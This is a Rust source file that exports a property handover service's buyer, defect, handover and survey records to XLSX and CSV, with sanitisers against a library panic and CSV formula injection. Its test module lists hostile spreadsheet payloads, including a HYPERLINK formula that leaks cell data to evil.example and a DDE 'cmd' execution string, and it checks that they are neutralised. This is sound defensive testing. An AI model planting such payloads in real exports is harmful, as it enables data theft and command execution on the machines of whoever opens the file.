//! `/export` and the CLI `export`: buyers, appointments, defects with their history, handovers
//! with meter readings, and surveys, as one .xlsx workbook or one CSV file per table. The
//! buyer sheet comes first and uses the import's own columns, so it re-imports unchanged.

use super::{ServiceError, ServiceResult, Services};
use crate::domain::people::Actor;
use chrono::{DateTime, Utc};
use tracing::instrument;

/// One cell of a table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<Option<String>> for Cell {
    fn from(s: Option<String>) -> Self {
        s.map_or(Cell::Empty, Cell::Text)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Number(n as f64)
    }
}

/// One exported table.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    /// The sheet's and the CSV file's name.
    pub name: &'static str,
    pub header: Vec<&'static str>,
    pub rows: Vec<Vec<Cell>>,
}

/// Who asks: a supervisor in chat, or the operator on the server (CLI).
#[derive(Debug, Clone, Copy)]
pub enum Exporter<'a> {
    Chat(&'a Actor),
    Cli,
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Service(#[from] ServiceError),
    #[error("cannot write the workbook: {0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
    #[error("cannot write CSV: {0}")]
    Csv(#[from] csv::Error),
}

impl Services {
    /// The campaign's tables as of now.
    #[instrument(skip_all)]
    pub async fn export_tables(&self, who: Exporter<'_>) -> ServiceResult<Vec<Table>> {
        if let Exporter::Chat(actor) = who
            && !actor.can_supervise()
        {
            return Err(ServiceError::Forbidden);
        }
        let tz = self.config.timezone;
        let time = |at: DateTime<Utc>| {
            Cell::Text(at.with_timezone(&tz).format("%Y-%m-%d %H:%M").to_string())
        };
        let maybe = |at: Option<DateTime<Utc>>| at.map_or(Cell::Empty, time);
        let mut tx = self.store.read().await?;
        let buyers = tx.export_buyers().await?;
        let appointments = tx.export_appointments().await?;
        let defects = tx.export_defects().await?;
        let events = tx.export_defect_events().await?;
        let handovers = tx.export_handovers().await?;
        let meters = tx.export_meters().await?;
        let surveys = tx.export_surveys().await?;
        tx.commit().await?;
        Ok(vec![
            Table {
                name: "buyers",
                header: vec![
                    "project",
                    "building",
                    "entrance",
                    "room",
                    "name",
                    "phone",
                    "tier",
                    "risk_flags",
                    "mailing_address",
                    "language",
                ],
                rows: buyers
                    .into_iter()
                    .map(|r| {
                        vec![
                            r.0.into(),
                            r.1.into(),
                            r.2.into(),
                            r.3.into(),
                            r.4.into(),
                            r.5.into(),
                            r.6.into(),
                            r.7.into(),
                            r.8.into(),
                            r.9.into(),
                        ]
                    })
                    .collect(),
            },
            Table {
                name: "appointments",
                header: vec![
                    "project",
                    "unit",
                    "kind",
                    "status",
                    "slot",
                    "invited_at",
                    "confirmed_at",
                    "checked_in_at",
                ],
                rows: appointments
                    .into_iter()
                    .map(|r| {
                        vec![
                            r.0.into(),
                            r.1.into(),
                            r.2.into(),
                            r.3.into(),
                            maybe(r.4),
                            time(r.5),
                            maybe(r.6),
                            maybe(r.7),
                        ]
                    })
                    .collect(),
            },
            Table {
                name: "defects",
                header: vec![
                    "id",
                    "unit",
                    "room",
                    "category",
                    "severity",
                    "status",
                    "engineer",
                    "contractor",
                    "due",
                    "recorded_at",
                    "note",
                ],
                rows: defects
                    .into_iter()
                    .map(|r| {
                        vec![
                            r.0.into(),
                            r.1.into(),
                            r.2.into(),
                            r.3.into(),
                            r.4.into(),
                            r.5.into(),
                            r.6.into(),
                            r.7.into(),
                            maybe(r.8),
                            time(r.9),
                            r.10.into(),
                        ]
                    })
                    .collect(),
            },
            Table {
                name: "defect_history",
                header: vec!["defect", "at", "by", "from", "to", "note"],
                rows: events
                    .into_iter()
                    .map(|r| {
                        vec![
                            r.0.into(),
                            time(r.1),
                            r.2.into(),
                            r.3.into(),
                            r.4.into(),
                            r.5.into(),
                        ]
                    })
                    .collect(),
            },
            Table {
                name: "handovers",
                header: vec![
                    "id",
                    "unit",
                    "status",
                    "ambassador",
                    "recorded_at",
                    "confirmed_by",
                    "confirmed_at",
                    "keys",
                    "documents",
                ],
                rows: handovers
                    .into_iter()
                    .map(|r| {
                        vec![
                            r.0.into(),
                            r.1.into(),
                            r.2.into(),
                            r.3.into(),
                            time(r.4),
                            r.5.into(),
                            maybe(r.6),
                            r.7.into(),
                            r.8.into(),
                        ]
                    })
                    .collect(),
            },
            Table {
                name: "meter_readings",
                header: vec!["handover", "meter", "reading", "photo_sha256"],
                rows: meters
                    .into_iter()
                    .map(|r| vec![r.0.into(), r.1.into(), r.2.into(), r.3.into()])
                    .collect(),
            },
            Table {
                name: "surveys",
                header: vec!["unit", "score", "comment", "buyer", "answered_at"],
                rows: surveys
                    .into_iter()
                    .map(|r| {
                        vec![
                            r.0.into(),
                            r.1.map_or(Cell::Empty, Cell::from),
                            r.2.into(),
                            r.3.into(),
                            maybe(r.4),
                        ]
                    })
                    .collect(),
            },
        ])
    }
}

/// The tables as one .xlsx workbook, one sheet each, buyers first.
pub fn to_xlsx(tables: &[Table]) -> Result<Vec<u8>, ExportError> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let bold = rust_xlsxwriter::Format::new().set_bold();
    for table in tables {
        let sheet = workbook.add_worksheet();
        sheet.set_name(table.name)?;
        for (col, title) in table.header.iter().enumerate() {
            sheet.write_string_with_format(0, col as u16, *title, &bold)?;
        }
        for (i, row) in table.rows.iter().enumerate() {
            let r = u32::try_from(i + 1).unwrap_or(u32::MAX);
            for (col, cell) in row.iter().enumerate() {
                let col = col as u16;
                match cell {
                    Cell::Text(text) => {
                        sheet.write_string(r, col, xlsx_safe(text))?;
                    }
                    Cell::Number(n) => {
                        sheet.write_number(r, col, *n)?;
                    }
                    Cell::Empty => {}
                }
            }
        }
        sheet.set_freeze_panes(1, 0)?;
    }
    Ok(workbook.save_to_buffer()?)
}

/// rust_xlsxwriter 0.79 looks four bytes past every `_x` for Excel's `_xHHHH_` escapes and
/// panics when that cuts a character (`_x中文`, in a buyer's name or a complaint). There, an
/// invisible word joiner (U+2060) between `_` and `x` keeps such text from crashing the export.
fn xlsx_safe(text: &str) -> std::borrow::Cow<'_, str> {
    let cut = |t: &str| {
        t.match_indices("_x")
            .map(|(at, _)| at)
            .find(|&at| at + 6 <= t.len() && !t.is_char_boundary(at + 6))
    };
    let Some(mut at) = cut(text) else {
        return std::borrow::Cow::Borrowed(text);
    };
    // Each joiner removes one `_x` and may move a later character into an earlier window.
    let mut safe = text.to_string();
    loop {
        safe.insert(at + 1, '\u{2060}');
        match cut(&safe) {
            Some(next) => at = next,
            None => return std::borrow::Cow::Owned(safe),
        }
    }
}

/// A text cell a spreadsheet program would run as a formula (`=`, `+`, `-`, `@`, a tab or a
/// carriage return first: `=HYPERLINK(…)` typed as an address or a report) gets a leading `'`,
/// as OWASP's "CSV injection" advice has it, so it shows as the text it is. A plain number
/// such as `+8613900000000` cannot be a formula and is left as it is, so the buyer sheet
/// still re-imports unchanged.
fn csv_safe(text: &str) -> std::borrow::Cow<'_, str> {
    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = {
        let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
        digits.starts_with(|c: char| c.is_ascii_digit())
            && digits
                .chars()
                .all(|c| c.is_ascii_digit() || c == ' ' || c == '.')
    };
    if risky && !number {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// One table as CSV (UTF-8 with a byte-order mark, so spreadsheet programs read Chinese right).
pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::Writer::from_writer(&mut out);
        writer.write_record(&table.header)?;
        for row in &table.rows {
            writer.write_record(row.iter().map(|cell| match cell {
                Cell::Text(text) => csv_safe(text).into_owned(),
                Cell::Number(n) => n.to_string(),
                Cell::Empty => String::new(),
            }))?;
        }
        writer.flush().map_err(csv::Error::from)?;
    }
    Ok(out)
}

#[cfg(test)]
mod csv_tests {
    use super::*;

    fn cells(bytes: &[u8]) -> Vec<String> {
        let text = String::from_utf8(bytes.to_vec()).unwrap();
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect()
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ];
        let table = Table {
            name: "buyers",
            header: vec!["mailing_address"],
            rows: hostile
                .iter()
                .map(|t| vec![Cell::Text(t.to_string())])
                .chain([
                    vec![Cell::Text("+8613900000000".into())],
                    vec![Cell::Text("海港路 8 号".into())],
                    vec![Cell::Number(-3.0)],
                ])
                .collect(),
        };
        let out = cells(&to_csv(&table).unwrap());
        for (cell, original) in out.iter().zip(hostile) {
            assert_eq!(cell, &format!("'{original}"), "{original:?}");
        }
        assert_eq!(
            &out[hostile.len()..],
            ["+8613900000000", "海港路 8 号", "-3"],
            "numbers and plain text are left as they are"
        );
    }
}
